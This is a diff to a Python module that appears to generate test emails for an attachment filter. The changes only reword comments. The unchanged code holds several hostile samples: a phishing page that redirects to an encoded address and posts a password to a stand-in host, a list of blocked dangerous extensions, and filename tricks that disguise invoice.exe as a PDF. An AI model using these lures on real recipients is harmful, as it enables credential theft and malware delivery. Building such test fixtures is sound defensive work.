@@ -1,4 +1,4 @@
-"""Dangerous files under other names, kinds and wrappings (F23 to F27). The spam's text is not in these messages."""
+"""Dangerous files under other names, types and wrappings (F23 to F27). These messages do not contain the spam's text."""
 
 import base64
 import gzip
@@ -11,7 +11,7 @@ from .transfer import uuencoded
 from .trick import ATTACHED_PAGE, NAMED, NO, PROGRAM_FILE, YES, Trick
 
 NOTE = b"Content-Type: text/plain; charset=utf-8\n\nHello,\n\nplease find the invoice attached.\n"
-# The head of a program for Windows: enough to be known by content, not enough to run.
+# The beginning of a Windows program: enough to be detected by content, not enough to run.
 PROGRAM = (
     (
         b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8"
@@ -27,7 +27,7 @@ PAGE_FILE = (
     b'<html><script>var a="aHR0cDovLzIwMy4wLjExMy45Lw==";location=atob(a)</script>'
     b'<form action="http://203.0.113.9/p"><input type=password name=p></form></html>'
 )
-# Of the files that Outlook blocks: those that run, install, connect or set something on a double click.
+# File types that Outlook blocks and that run, install, connect or change something on a double click.
 DANGEROUS = (
     "com scr pif bat cmd vb vbs vbe js jse wsf wsh wsc hta lnk url rdp scf shb shs msi msp mst msu cpl jar "
     "jnlp ps1 psm1 psc1 reg inf chm hlp vhd vhdx application appref-ms gadget msc xll wll library-ms search-ms "
@@ -65,7 +65,7 @@ def zipped(name, data=PROGRAM, before=b"", password=False):
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr(zipfile.ZipInfo(name, (2026, 7, 6, 9, 0, 0)), data)
     octets = bytearray(out.getvalue())
-    if password:  # the flag alone: nobody unpacks it here
+    if password:  # only the flag is set: nothing unpacks it here
         octets[6] |= 1
         octets[octets.index(b"PK\1\2") + 8] |= 1
     return before + bytes(octets)
@@ -87,7 +87,7 @@ def mail(data=PROGRAM, name="invoice.exe"):
     ).encode() + coded(data, "base64")
 
 
-NAMES = {  # the disposition, for a name that the recipient's program takes for an .exe
+NAMES = {  # dispositions whose file name the recipient's program takes for an .exe
     "filename* wins": "attachment; filename=\"invoice.pdf\"; filename*=utf-8''invoice.exe",
     "filename* first": "attachment; filename*=utf-8''invoice.exe; filename=\"invoice.pdf\"",
     "filename* alone": "attachment; filename*=utf-8'en'invoice%2Eexe",
